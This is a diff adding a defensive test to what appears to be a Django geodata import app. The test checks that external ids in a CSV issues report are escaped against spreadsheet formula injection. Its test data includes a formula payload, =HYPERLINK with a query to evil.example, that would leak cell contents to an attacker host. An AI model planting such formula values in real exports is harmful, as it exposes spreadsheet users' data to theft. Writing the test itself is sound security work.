@@ -208,3 +208,21 @@ def test_a_superuser_may_import_a_file_from_any_path(admin_client: Client, owner
     elsewhere = write_layer(tmp_path / "elders.gpkg", [{"guid": "a", "geometry": box(0, 0, 10, 10)}])
     _file_source(admin_client, owner_a, str(elsewhere))
     assert Source.objects.get(name="pad").location == str(elsewhere)
+
+
+def test_the_report_does_not_hand_spreadsheet_formulas_to_excel(
+    admin_client: Client, owner_a: Owner, tmp_path: Path
+) -> None:
+    """External ids come from the file or a remote service; opened in Excel, a cell starting with
+    = + - or @ is a formula (HYPERLINK to leak data, DDE to run commands). They stay text."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    rows = [
+        {"guid": formula, "geometry": None},
+        {"guid": "@SUM(1)", "geometry": None},
+        {"guid": "gewoon", "geometry": None},
+        {"guid": "goed", "geometry": box(140000, 470000, 140010, 470010)},
+    ]
+    run = sync(owner_a, write_layer(tmp_path / "g.geojson", rows), id_field="guid")
+    response = admin_client.get(reverse("admin:importers_importrun_issues", args=[run.pk]))
+    table = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted(r["external_id"] for r in table) == ["'" + formula, "'@SUM(1)", "gewoon"]
